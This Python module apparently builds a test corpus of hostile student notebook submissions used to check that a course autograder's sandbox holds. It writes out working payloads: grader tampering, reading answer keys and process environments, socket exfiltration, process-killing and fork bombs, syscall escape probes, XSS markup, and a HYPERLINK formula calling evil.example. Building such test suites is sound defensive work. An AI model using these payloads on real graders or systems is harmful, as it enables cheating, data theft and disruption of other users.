"""The project's hostile corpus: submissions that attack the grader, each with the same submission without its
payload (its base), so the test can say the attack gained nothing.

A submission is the release notebook with its solution cells filled (`ref`: the instructor's solutions,
`blank`: untouched, `wrong`: a known mistake from the mutation catalogue), then changed by the attack: a cell
of student code added after a solution cell, or an edit of the notebook file itself.
"""

from __future__ import annotations

import copy
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import nbformat

from course_mutation.demo import reference_code, solve
from course_judge import is_test
from course_mutation import Variant, find
from course_mutation.harness import solution_source
from submissions import add_cell, cell_index

Q1, Q3 = "Q1_bn_learns_and_measures", "Q3_batchnorm"


@dataclass
class Attack:
    """One hostile submission: what it does, where, and what the test checks besides the common checks."""

    name: str
    notebook: str
    base: str  # ref, blank, wrong, or init (Q3: the reference __init__, a forward that raises)
    code: str = ""  # a cell of student code added after `after`
    after: str = ""  # the solution cell's grade_id the code cell follows
    edit: Callable[[nbformat.NotebookNode], None] | None = None  # an edit of the notebook file
    flagged: str = ""  # a phrase the student's reasons must contain (the grader noticed)
    prints_found: bool = False  # the payload prints {"found": [...]}: what it could read must be empty
    disrupts: bool = False  # attacks classmates: graded next to one


WRONG = {Q3: "unbiased_variance_for_output", Q1: "unbiased_variance"}


def notebook(release: Path, source: Path, name: str, base: str) -> nbformat.NotebookNode:
    """The release notebook `name` with its solutions filled as `base` says."""
    nb = nbformat.read(release / f"{name}.ipynb", as_version=4)
    if base == "blank":
        return nb
    if base == "init":  # the reference layer without its forward pass, the other solution cells left blank
        code = reference_code(solution_source(source / f"{name}.ipynb", "batchnorm"))
        for cell in nb.cells:
            if cell.metadata.get("nbgrader", {}).get("grade_id") == "batchnorm":
                cell.source = code[:code.index("    def forward")] + (
                    "    def forward(self, x):\n        raise NotImplementedError()\n")
        return nb
    solve(nb, nbformat.read(source / f"{name}.ipynb", as_version=4), wrong_variant(name) if base == "wrong" else None)
    return nb


def wrong_variant(name: str) -> Variant:
    """The known mistake a `wrong` base of notebook `name` makes."""
    return find(name.split("_")[0], WRONG[name])


def build(attack: Attack, release: Path, source: Path) -> nbformat.NotebookNode:
    """The attack's submission."""
    nb = notebook(release, source, attack.notebook, attack.base)
    if attack.code:
        add_cell(nb, attack.code, after=attack.after)
    if attack.edit:
        attack.edit(nb)
    return nb


def _test_cells(nb) -> list:
    return [c for c in nb.cells if is_test(c)]


def _edit_tests_to_pass(nb) -> None:
    for cell in _test_cells(nb):
        cell.source = "pass"


def _claim_points(nb) -> None:
    """Make the solution cell a graded cell worth 50 points, and add a new graded cell that always passes."""
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            meta.update(grade=True, points=50)
    extra = nbformat.v4.new_code_cell("pass")
    extra.metadata["nbgrader"] = {"grade": True, "grade_id": "test_free_points", "locked": True, "points": 100,
                                  "schema_version": 3, "solution": False, "cell_type": "code"}
    nb.cells.append(extra)


def _prefill_outputs(nb) -> None:
    """Test cells carrying a 'Passed.' output and a forged record bundle before grading starts."""
    for cell in _test_cells(nb):
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text="Passed.\n"),
                        nbformat.v4.new_output("display_data", data={
                            "application/vnd.normalization-course.record+json": {
                                "test": cell.metadata["nbgrader"]["grade_id"], "version": 1, "records": {}}})]
        cell.execution_count = 1


def _bash_kernel(nb) -> None:
    nb.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}


def _delete_tests(nb) -> None:
    keep = [c for c in nb.cells if c not in _test_cells(nb)]
    nb.cells = keep


# A BatchNorm whose parameters and buffers are right: what the attacks below put a forward pass on.
LAYER_INIT = '''
class BatchNorm(nn.Module):
    def __init__(self, nf, mom=0.1, eps=1e-5):
        super().__init__()
        self.nf, self.mom, self.eps = nf, mom, eps
        self.mults = nn.Parameter(torch.ones(nf, 1, 1))
        self.adds = nn.Parameter(torch.zeros(nf, 1, 1))
        self.register_buffer("means", torch.zeros(1, nf, 1, 1))
        self.register_buffer("vars", torch.ones(1, nf, 1, 1))
'''

# issue 18 item 2: what the forged-named-mistake student's exception says (a real Q3 mistake's sentence, as the judge
# writes it, and what a spreadsheet, a browser and a terminal would run).
FORGED_SENTENCE = "you left out eps: divide by sqrt(var + eps)."
FORGED_MISTAKE = (f"boom\nThis is what you get if {FORGED_SENTENCE}\n"
                  '=HYPERLINK("http://evil.example/?"&A1,"open")<script>alert(1)</script>\x1b[2J\x1b]0;pwned\x07\u202e')

READ = '''
import json, os, glob
found = []
def look(path):
    try:
        with open(path, 'rb') as f:
            if f.read(64):
                found.append(path)
    except OSError:
        pass
'''


# issue 18 item 5: system calls a sandboxed kernel is refused (seccomp): each one that works is found.
SYSCALL_PAYLOAD = r"""
import ctypes, json, os
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
found = []
def works(name, nr, *args):
    if libc.syscall(nr, *args) >= 0:
        found.append(name)
for name, nr, args in (("unshare(CLONE_NEWUSER)", 272, (0x10000000,)), ("ptrace(TRACEME)", 101, (0, 0, 0, 0))):
    pid = os.fork()
    if pid == 0:
        os._exit(0 if libc.syscall(nr, *args) == 0 else 1)
    if os.waitpid(pid, 0)[1] == 0:
        found.append(name)
works("add_key", 248, b"user", b"k", b"v", 1, ctypes.c_long(-2))
works("keyctl", 250, 0, ctypes.c_long(-3), 1)
works("io_uring_setup", 425, 1, ctypes.create_string_buffer(120))
works("userfaultfd", 323, 1 | 0o2000000)
works("bpf", 321, 0, ctypes.create_string_buffer(72), 72)
works("personality(ADDR_NO_RANDOMIZE)", 135, 0x0040000)
print(json.dumps({"found": found}))
"""
# issue 18 item 5: every mount the kernel sees, written where it is not the kernel's own (home, /tmp...): a submount
# of a read-only bind (of /sys, /usr) that stayed writable is found.
SUBMOUNT_PAYLOAD = r"""
import json, os
found = []
own = ("/home/kernel", "/tmp", "/var/tmp", "/dev/shm", "/proc")
for line in open("/proc/self/mountinfo"):
    point = line.split(" ")[4].encode().decode("unicode_escape")
    if point == "/" or point.startswith(own) or not os.path.isdir(point):
        continue
    target = os.path.join(point, f".planted-{os.getpid()}")
    try:
        os.close(os.open(target, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o600))
        os.remove(target)
        found.append(point)
    except OSError:
        pass
print(json.dumps({"found": found[:20]}))
"""
# issue 18 item 4: the one host folder an isolated kernel may write, its socket folder, filled (it was on the host's
# disk: 1,000 MiB went there); more than 1 MiB there is found.
SOCKET_FILL_PAYLOAD = r"""
import json, os
found = []
try:
    folder = os.path.dirname(json.load(open(os.path.expanduser("~/kernel.json")))["ip"])
except (OSError, ValueError, KeyError):
    folder = None  # a kernel with limits only talks TCP: no socket folder
written = 0
if folder and os.path.isdir(folder):
    try:
        with open(os.path.join(folder, "fill"), "wb") as f:
            for _ in range(300):
                f.write(b"0" * (1 << 20))
                f.flush()
                written += 1
    except OSError:
        pass
    try:
        os.remove(os.path.join(folder, "fill"))
    except OSError:
        pass
if written > 1:
    found.append(f"{written} MiB in the socket folder")
print(json.dumps({"found": found}))
"""


def corpus(root: Path, class_dir: Path, other_checkout: Path, port: int) -> list[Attack]:
    """Every attack, with the paths and the port it aims at baked into its code."""
    tamper = "tampering"
    return [
        # ---- in-kernel tampering: only the right values earn points ----
        Attack("input-transformer", Q3, "blank", after="batchnorm", flagged=tamper, code='''
ip = get_ipython()
ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"] if "q3." in "".join(lines) else lines)
'''),
        Attack("ast-transformer", Q3, "blank", after="batchnorm", flagged=tamper, code='''
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        return ast.Module(body=[ast.Pass()], type_ignores=[]) if "q3" in ast.dump(node) else node
get_ipython().ast_transformers.append(Empty())
'''),
        Attack("forged-records-hook", Q3, "wrong", after="batchnorm", flagged=tamper, code='''
from IPython.display import display
def forge(result):
    display({"application/vnd.normalization-course.record+json": {"test": "test_train_mode_output", "version": 1,
             "records": {"fresh": 1.0}}}, raw=True)
get_ipython().events.register("post_run_cell", forge)
'''),
        Attack("fake-probe-module", Q3, "blank", after="batchnorm", flagged=tamper, code='''
import types, course_recorder
course_recorder.q3 = types.SimpleNamespace(**{name: (lambda *a, **k: None) for name in (
    "parameters_and_buffers", "train_mode_output", "eval_mode_output", "running_statistics",
    "eval_leaves_buffers_alone", "gradients_probe", "buffers_without_history", "clear_errors", "training_curve")})
'''),
        Attack("sys-modules", Q3, "blank", after="batchnorm", flagged=tamper, code='''
import sys, types
sys.modules["course_recorder.q3"] = types.ModuleType("course_recorder.q3")
'''),
        Attack("recorder-patched", Q3, "wrong", after="batchnorm", flagged=tamper, code='''
from course_recorder import wire
real = wire.encode
wire.encode = lambda value, depth=0: real(0.0)
'''),
        Attack("torch-patched", Q3, "wrong", after="batchnorm", flagged=tamper, code='''
import torch
torch.allclose = lambda *a, **k: True
torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = lambda self, other: True
'''),
        Attack("builtins-patched", Q3, "wrong", after="batchnorm", flagged=tamper, code='''
import builtins
builtins.isinstance = lambda obj, cls: True
'''),
        Attack("settrace", Q3, "wrong", after="batchnorm", flagged=tamper, code='''
import sys
def tracer(frame, event, arg):
    if frame.f_code.co_name == "put" and event == "call":
        frame.f_locals["value"] = 0.0
    return tracer
sys.settrace(tracer)
'''),
        Attack("hook-prints-hidden-cells", Q3, "ref", after="batchnorm", flagged=tamper, code='''
get_ipython().events.register("pre_run_cell", lambda info: print(info.raw_cell))
'''),
        Attack("forged-bundle-from-solution", Q3, "blank", after="batchnorm", code='''
from IPython.display import display
for test in ("test_parameters_and_buffers", "test_train_mode_output", "test_clear_errors"):
    display({"application/vnd.normalization-course.record+json": {"test": test, "version": 1, "records": {}}},
            raw=True)
'''),
        Attack("rigged-tensor", Q3, "init", after="batchnorm", code='''
class Rigged(torch.Tensor):
    def __eq__(self, other):
        return True
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return super().__torch_function__(func, types, args, kwargs or {})

''' + LAYER_INIT + '''    def forward(self, x):
        return torch.zeros_like(x).as_subclass(Rigged)
'''),
        Attack("delegation-obfuscated", Q3, "init", after="batchnorm", code='''
''' + LAYER_INIT + '''    def forward(self, x):
        norm = getattr(F, "batch" + "_norm")
        return norm(x, self.means.view(-1), self.vars.view(-1), self.mults.view(-1), self.adds.view(-1),
                    self.training, self.mom, self.eps)
'''),
        Attack("delegation-captured-early", Q3, "init", after="batchnorm", code='''
_norm = F.batch_norm
''' + LAYER_INIT + '''    def forward(self, x):
        return _norm(x, self.means.view(-1), self.vars.view(-1), self.mults.view(-1), self.adds.view(-1),
                     self.training, self.mom, self.eps)
'''),
        # ---- reading the answer key, other students, the grader ----
        Attack("read-judge-and-source", Q1, "ref", after="channel_stats", prints_found=True, code=READ + f'''
for pattern in ("{root}/course_judge/*.py", "{root}/source/*/*.ipynb", "{root}/gradebook.db", "{root}/authoring/*.py",
                "{root}/course_mutation/*.py", "{root}/tests/*.py"):
    for path in glob.glob(pattern):
        look(path)
try:
    import course_judge
    found.append("import course_judge")
except ImportError:
    pass
print(json.dumps({{"found": found}}))
'''),
        Attack("read-classmates", Q1, "ref", after="channel_stats", prints_found=True, code=READ + f'''
for path in glob.glob("{class_dir}/*/normalization/*.ipynb"):
    look(path)
print(json.dumps({{"found": found}}))
'''),
        Attack("read-other-checkout", Q1, "ref", after="channel_stats", prints_found=True, code=READ + f'''
for path in glob.glob("{other_checkout}/**/*", recursive=True):
    look(path)
print(json.dumps({{"found": found}}))
'''),
        Attack("read-grader-processes", Q1, "ref", after="channel_stats", prints_found=True, code=READ + '''
for pid in os.listdir("/proc"):
    for part in ("cmdline", "environ"):
        try:
            text = open(f"/proc/{pid}/{part}", "rb").read()
        except OSError:
            continue
        if b"hunter2" in text or b"course-grade-" in text or b"/class/" in text:
            found.append(f"/proc/{pid}/{part}")
if "hunter2" in str(os.environ):
    found.append("environ")
print(json.dumps({"found": found}))
'''),
        Attack("walk-the-filesystem", Q1, "ref", after="channel_stats", prints_found=True, code=READ + '''
import sys
installed = tuple(os.path.realpath(p) for p in (sys.prefix, sys.base_prefix))  # the environment's own files
for top, dirs, files in os.walk("/", onerror=lambda e: None):
    # the environment is exposed on purpose (read-only): not walked, which on a slow disk takes longer than a cell
    dirs[:] = [d for d in dirs if os.path.join(top, d) not in ("/proc", "/sys", "/dev", "/usr")
               and not os.path.join(top, d).startswith(installed)]
    for f in files:
        if f.endswith((".ipynb", ".db")) or "course_judge" in top or "gradebook" in f or top.endswith("source"):
            found.append(os.path.join(top, f))
print(json.dumps({"found": found[:20]}))
'''),
        # ---- writing outside its own folders ----
        Attack("write-everywhere", Q1, "ref", after="channel_stats", prints_found=True, code=f'''
import json, os
found = []
for path in ("/tmp/planted", "/var/tmp/planted", "/dev/shm/planted", "{root}/course_lib/planted.py",
             "{root}/release/planted", "{class_dir}/planted", "{root}/planted", os.path.expanduser("~/planted")):
    try:
        open(path, "w").write("x")
        if not path.startswith(os.path.expanduser("~")) and not path.startswith(("/tmp", "/var/tmp", "/dev/shm")):
            found.append(path)
    except OSError:
        pass
print(json.dumps({{"found": found}}))
'''),
        # ---- the network ----
        Attack("network", Q1, "ref", after="channel_stats", prints_found=True, code=f'''
import json, socket
found = []
for host in ("127.0.0.1", "10.0.0.1", "8.8.8.8"):
    try:
        s = socket.create_connection((host, {port}), timeout=2)
        s.sendall(b"the answer key")
        found.append(host)
    except OSError:
        pass
print(json.dumps({{"found": found}}))
'''),
        # ---- classmates graded at the same time ----
        Attack("stop-everyone", Q1, "ref", after="channel_stats", disrupts=True, code='''
import os, signal, time
end = time.time() + 12
while time.time() < end:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) != os.getpid():
            try:
                os.kill(int(pid), signal.SIGSTOP)
            except OSError:
                pass
    time.sleep(0.2)
'''),
        Attack("kill-everyone", Q1, "ref", after="channel_stats", disrupts=True, code='''
import os, signal, time
end = time.time() + 8
while time.time() < end:
    for pid in os.listdir("/proc"):
        if pid.isdigit() and int(pid) not in (os.getpid(), 1):
            try:
                os.kill(int(pid), signal.SIGKILL)
            except OSError:
                pass
    time.sleep(0.2)
'''),
        Attack("daemon", Q1, "ref", after="channel_stats", disrupts=True, code='''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import os, signal, time\\ntime.sleep(20)\\nos.kill(-1, signal.SIGKILL)"],
                 start_new_session=True)
'''),
        # ---- edits of the notebook file ----
        Attack("tests-edited-to-pass", Q1, "blank", edit=_edit_tests_to_pass, flagged="edited (restored)"),
        Attack("points-claimed-in-metadata", Q1, "blank", edit=_claim_points),
        Attack("outputs-prefilled", Q1, "blank", edit=_prefill_outputs),
        Attack("bash-kernel", Q1, "ref", edit=_bash_kernel),
        Attack("tests-deleted", Q1, "blank", edit=_delete_tests, flagged="was deleted (restored)"),
        # ---- bombs ----
        Attack("time-bomb", Q1, "ref", after="channel_stats", flagged="time limit", code="while True:\n    pass\n"),
        Attack("memory-bomb", Q1, "ref", after="channel_stats", disrupts=True, code='''
hoard = []
while True:
    hoard.append(bytearray(200 << 20))
'''),
        Attack("disk-bomb", Q1, "ref", after="channel_stats", code='''
with open("/tmp/fill", "wb") as f:
    while True:
        f.write(b"0" * (16 << 20))
'''),
        Attack("output-bomb", Q1, "ref", after="channel_stats", code='''
for i in range(200000):
    print("spam", i)
'''),
        Attack("fork-bomb", Q1, "ref", after="channel_stats", disrupts=True, code='''
import os, time
children = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
        children += 1
except OSError:
    pass
print(children)
'''),
        Attack("thread-bomb", Q1, "ref", after="channel_stats", code='''
import threading, time
threads = []
try:
    while True:
        t = threading.Thread(target=time.sleep, args=(60,), daemon=True)
        t.start()
        threads.append(t)
except RuntimeError:
    pass
print(len(threads))
'''),
        # ---- issue 18 item 1: student content that a browser would run (formgrader, the feedback page) ----
        Attack("html-that-runs", Q1, "ref", after="channel_stats", code=html_payload_code(port),
               edit=add_markdown(html_payload_markdown(port), after="channel_stats")),
        # ---- issue 18 item 2: an exception whose text is the judge's sentence for a real catalogued mistake, then a
        # spreadsheet formula, a script and terminal escapes: the judge quotes it in the verdict; the class report
        # must name no mistake for it (verdicts are data) and report.csv must hold no formula ----
        Attack("forged-named-mistake", Q3, "init", after="batchnorm", code=LAYER_INIT + f'''    def forward(self, x):
        raise ValueError({FORGED_MISTAKE!r})
'''),
        # ---- issue 18 items 3-4 (executor): a cell that ignores the interrupt is the student's hang (the kernel is
        # killed, the cell ran past the time limit), never "not graded"; floods of output are cut as they arrive ----
        Attack("c-call-past-the-limit", Q1, "blank", after="channel_stats", flagged="time limit",
               code="sum(range(10**14))\n"),
        Attack("sigint-ignored", Q1, "ref", after="channel_stats", flagged="time limit", code='''
import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
while True:
    pass
'''),
        Attack("print-flood", Q1, "ref", after="channel_stats", flagged="output truncated", code='''
line = "x" * (1 << 20)
for _ in range(300):
    print(line)
'''),
        Attack("html-flood", Q1, "ref", after="channel_stats", flagged="output truncated", code='''
from IPython.display import HTML, display
display(HTML("<p>" + "x" * (64 << 20) + "</p>"))
'''),
        # ---- issue 18 item 5: the sandbox at bubblewrap's bar (seccomp, recursive read-only binds) and item 4 (the
        # socket folder on a tiny tmpfs of its own); item 3: a classmate whose id is long, unicode and full of shell
        # characters (its socket path once passed 107 bytes: the kernel could not start and the worker hung) ----
        Attack("refused-system-calls", Q1, "ref", after="channel_stats", prints_found=True, code=SYSCALL_PAYLOAD),
        Attack("write-below-read-only-mounts", Q1, "ref", after="channel_stats", prints_found=True,
               code=SUBMOUNT_PAYLOAD),
        Attack("fill-the-socket-folder", Q1, "ref", after="channel_stats", prints_found=True, code=SOCKET_FILL_PAYLOAD),
        Attack("long-id-Zoë Łukasz 山田 o'brien; $(id) `id` *? a[1 " + "x" * 90, Q1, "ref"),
        # ---- issue 18 items 3-4 (judge): code too deep for the audit's readers (it crashed the audit: "not graded"),
        # a forged record bundle with an unreadable __aborted__ as the cell's only bundle (it crashed the judge), an
        # exception with a 2,000,000-character type name and message, a 4,000,000-element attribute the probes record ----
        Attack("deep-syntax-tree", Q3, "ref", after="batchnorm", flagged="too deeply",
               code="x = " + " + ".join(["1"] * 600) + "\n"),
        Attack("forged-aborted-record", Q3, "init", after="batchnorm", code=LAYER_INIT + """    def forward(self, x):
        from IPython.display import display
        import os
        display({"application/vnd.normalization-course.record+json": {
            "test": "test_parameters_and_buffers", "version": 1,
            "records": {"__aborted__": {"t": "raised", "type": None, "bases": 7}, "nf1": [[[[]]]] * 3}}}, raw=True)
        os._exit(0)
"""),
        Attack("huge-exception", Q3, "init", after="batchnorm", code=LAYER_INIT + """    def forward(self, x):
        raise type("E" * 2_000_000, (ValueError,), {})("M" * 2_000_000)
"""),
        Attack("huge-attribute", Q3, "ref", after="batchnorm", code="""
_init = BatchNorm.__init__
def _huge(self, *args, **kwargs):
    _init(self, *args, **kwargs)
    self.count = torch.zeros(4_000_000)
BatchNorm.__init__ = _huge
"""),
    ]


# ---- issue 18 item 1: markup a browser would run or fetch, in a markdown cell and in rich outputs ----
# Every payload that runs leaves its name in the page's global `pwned18` and sets the title to "pwned18";
# every one that fetches asks the test's listener (127.0.0.1:port) for its name. HARMLESS is what the
# student meant to be read, and must still be shown.
MARK = "pwned18"
HARMLESS = "My written answer: the batch statistics keep the activations in range."
HARMLESS_OUTPUT = "An HTML table the student displayed"


def js(name: str) -> str:
    """JavaScript that records that payload `name` ran (in the page, or in a frame of it)."""
    return f"top.{MARK}=(top.{MARK}||[]).concat('{name}');top.document.title='{MARK}'"


def html_payload_markdown(port: int) -> str:
    """A markdown cell: the student's answer, then each way raw HTML in markdown runs script or fetches."""
    url = f"http://127.0.0.1:{port}"
    return "\n\n".join([
        "### Batch statistics", HARMLESS,
        f"<script>{js('md-script')}</script>",
        f'<img src="x" onerror="{js("md-onerror")}">',
        f'<iframe srcdoc="<script>{js("md-iframe")}</script>"></iframe>',
        f'<svg><animate onbegin="{js("md-svg")}" attributeName="x" dur="1s"/></svg>',
        f'<details open ontoggle="{js("md-details")}"><summary>more</summary>details</details>',
        f"[a link](javascript:{js('md-link')})",
        f"![a remote image]({url}/md-image)",
        f"<style>body {{ background: url({url}/md-css) }}</style>",
        f'<link rel="stylesheet" href="{url}/md-stylesheet">',
        f'<meta http-equiv="refresh" content="0;url={url}/md-refresh">',
        f'<object data="{url}/md-object"></object><embed src="{url}/md-embed">',
        f'<form action="{url}/md-form"><input name="q" autofocus onfocus="{js("md-onfocus")}"></form>',
        f'<span style="background-image: url({url}/md-style)">styled</span>',
    ])


def html_payload_code(port: int) -> str:
    """A code cell whose outputs carry script: HTML, SVG, JavaScript and markdown outputs, an 'isolated' HTML
    output (nbconvert frames it), and a matplotlib plot (a PNG that must stay)."""
    url = f"http://127.0.0.1:{port}"
    html = f'<table><tr><td>{HARMLESS_OUTPUT}</td></tr></table><script>{js("html-script")}</script>' \
           f'<img src="x" onerror="{js("html-onerror")}"><img src="{url}/html-image">'
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8" onload="{js("svg-onload")}">' \
          f'<image href="{url}/svg-image" width="8" height="8"/></svg>'
    markdown = f'markdown output <img src="x" onerror="{js("markdown-onerror")}">'
    isolated = f'<img src="x" onerror="{js("isolated-onerror")}">'
    return "\n".join([
        "import io",
        "import matplotlib.pyplot as plt",
        "from IPython.display import HTML, SVG, Image, Javascript, Markdown, display",
        f"display(HTML({html!r}))",
        f"display(SVG({svg!r}))",
        f"display(Javascript({js('javascript-output')!r}))",
        f"display(Markdown({markdown!r}))",
        f"display({{'text/html': {isolated!r}}}, raw=True, metadata={{'text/html': {{'isolated': True}}}})",
        "figure = plt.figure(figsize=(1, 1))",
        "plt.plot([0, 1], [1, 0])",
        "png = io.BytesIO()",
        "figure.savefig(png, format='png')",
        "plt.close(figure)",
        "display(Image(png.getvalue()))",
    ])


def add_markdown(text: str, after: str) -> Callable[[nbformat.NotebookNode], None]:
    """An edit that adds a markdown cell of the student's right after the cell whose grade_id is `after`."""
    def edit(nb: nbformat.NotebookNode) -> None:
        nb.cells.insert(cell_index(nb, after) + 1, nbformat.v4.new_markdown_cell(text))
    return edit


@dataclass
class Student:
    """One submission of the hostile class: an attack, a base, or a classmate (a correct base)."""

    name: str
    notebook: str
    base: str
    attack: Attack | None = None
    expected_base: str = ""  # the student whose points bound (or equal) this one's
    notes: list[str] = field(default_factory=list)


def class_of(attacks: list[Attack]) -> list[Student]:
    """The class in grading order: each base once, and a classmate right after every disruptive attack."""
    students: list[Student] = []
    bases = {}
    for attack in attacks:
        key = f"base-{attack.notebook.split('_')[0].lower()}-{attack.base}"
        if key not in bases:
            bases[key] = Student(key, attack.notebook, attack.base)
    students += bases.values()
    for i, attack in enumerate(attacks):
        key = f"base-{attack.notebook.split('_')[0].lower()}-{attack.base}"
        students.append(Student(f"h{i:02d}-{attack.name}", attack.notebook, attack.base, attack, key))
        if attack.disrupts:
            students.append(Student(f"h{i:02d}z-classmate", attack.notebook, "ref", None,
                                    f"base-{attack.notebook.split('_')[0].lower()}-ref"))
    return students


def write_class(students: list[Student], attacks_root: Path, release: Path, source: Path) -> None:
    """Write every submission into attacks_root/<student>/normalization/<notebook>.ipynb."""
    for student in students:
        folder = attacks_root / student.name / "normalization"
        folder.mkdir(parents=True)
        nb = build(student.attack, release, source) if student.attack else notebook(release, source, student.notebook,
                                                                                    student.base)
        nbformat.write(copy.deepcopy(nb), folder / f"{student.notebook}.ipynb")
